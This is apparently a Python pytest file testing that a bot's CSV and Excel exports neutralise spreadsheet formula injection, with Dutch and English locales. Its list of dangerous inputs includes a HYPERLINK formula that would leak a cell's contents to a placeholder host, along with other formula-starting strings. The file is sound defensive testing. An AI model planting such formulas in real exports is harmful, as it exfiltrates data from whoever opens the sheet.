import asyncio
import csv
import io

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.documents.export_files import spreadsheet_safe
from tests.export_rows import document

DANGEROUS = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tstart met een tab",
    "\rstart met een regelterugloop",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_start_a_formula_is_shown_as_typed(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Zeist", "12 ideeën", "", None, 3, -4, 2.5, True])
def test_other_cells_are_left_alone(value: object) -> None:
    assert not spreadsheet_safe(value).startswith("'")


@pytest.mark.parametrize("language", ["nl", "en"])
async def test_every_csv_export_neutralises_member_text(language: str) -> None:
    rows = [{"id": n, "organisation": text, "text": text, "delta": -n} for n, text in enumerate(DANGEROUS, 1)]
    data = await document(rows, "csv", language)
    delimiter = ";" if language == "nl" else ","
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    assert [row["organisation"] for row in read] == ["'" + text for text in DANGEROUS]
    assert [row["text"] for row in read] == ["'" + text for text in DANGEROUS]
    assert [row["delta"] for row in read] == [str(-n) for n in range(1, len(DANGEROUS) + 1)], "numbers stay numbers"


async def test_an_excel_export_keeps_member_text_as_text_never_a_formula() -> None:
    rows = [
        {"id": n, "text": text, "member_id": "123456789012345678", "delta": -n} for n, text in enumerate(DANGEROUS, 1)
    ]
    [sheet] = openpyxl.load_workbook(io.BytesIO(await document(rows, "xlsx"))).worksheets
    texts = [sheet.cell(row=n + 1, column=2) for n in range(1, len(DANGEROUS) + 1)]
    # OOXML writes a carriage return as the escape _x000D_, which Excel decodes and openpyxl leaves as it is.
    shown = [str(cell.value).replace("_x000D_", "\r") for cell in texts]
    assert shown == DANGEROUS, "shown as typed, no quote added"
    assert {cell.data_type for cell in texts} == {"s"}, "text cells, not formulas ('f')"
    assert sheet.cell(row=2, column=3).value == "123456789012345678", "ids keep every digit"
    assert [sheet.cell(row=n + 1, column=4).value for n in range(1, len(DANGEROUS) + 1)] == [
        -n for n in range(1, len(DANGEROUS) + 1)
    ], "numbers stay numbers"


@settings(max_examples=50, deadline=None)
@given(st.lists(st.one_of(st.none(), st.integers(), st.text(alphabet="=+-@\t\r\na;\"'x")), min_size=1))
def test_every_csv_cell_reads_back_as_spreadsheet_safe_makes_it(column: list[object]) -> None:
    rows = [{"id": n, "text": cell} for n, cell in enumerate(column)]
    data = asyncio.run(document(rows, "csv", "nl"))
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row["text"] for row in read] == [spreadsheet_safe(cell) for cell in column]
